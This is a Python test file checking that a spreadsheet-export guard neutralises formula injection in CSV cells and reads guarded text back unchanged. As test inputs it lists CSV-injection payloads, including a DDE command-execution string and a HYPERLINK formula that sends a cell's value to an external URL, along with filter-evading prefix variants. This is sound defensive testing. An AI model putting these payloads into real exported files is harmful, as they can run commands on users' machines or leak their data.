"""Formulas in exported cells: harmless in a spreadsheet, and read back as they were."""

import csv
import random
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from modelmint.data.formulas import plain_cell, safe_cell

from .conftest import texts_of

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "hello;=1+1",
    'hello",=1+1,"',
    "hello\t@SUM(A1)",
    "first line\n=1+1",
    "'=1+1",
    "a|-2+3",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded(text: str) -> None:
    assert safe_cell(text) != text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_guarded_formula_is_read_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", "hello", "a=b", "1-2", "x, y", "it's", "'quoted'", "-12", "+3.5", "-0,5", "a@b.c"]
)
def test_other_text_stays(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["'hello'", "''", "'", "it's, 'so'"])
def test_apostrophes_of_the_text_are_kept(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


def test_no_cell_begins_with_a_sign_whatever_the_separator() -> None:
    cells = [cell for separator in ',;|\t"\n' for text in FORMULAS for cell in safe_cell(text).split(separator)]
    assert not [cell for cell in cells if cell.lstrip(" \u00a0\ufeff").startswith(("=", "+", "-", "@", "＝", "＋"))]


def test_any_text_is_read_back() -> None:
    draw = random.Random(17)
    texts = ["".join(draw.choices("'=+-@\t\r\n,;|\" a1＝\ufeff", k=draw.randrange(9))) for _ in range(20_000)]
    assert [plain_cell(safe_cell(text)) for text in texts] == texts


def test_guarded_texts_stay_apart() -> None:
    draw = random.Random(18)
    texts = {"".join(draw.choices("'=-,1 ", k=draw.randrange(7))) for _ in range(20_000)}
    assert len({safe_cell(text) for text in texts}) == len(texts)


def test_what_an_export_guarded_is_read_back(write: Callable[..., Path], collected: Callable[..., Any]) -> None:
    texts = ["=1+1", "hello;=1+1", "'=1+1", "plain", "a, b", "it's", '"=1"', "-5"]
    sink = StringIO()
    csv.writer(sink).writerows([["text", "label"], *([safe_cell(text), "ab"[at % 2]] for at, text in enumerate(texts))])
    assert texts_of(collected(write("a.csv", sink.getvalue()), guarded=True).data) == texts
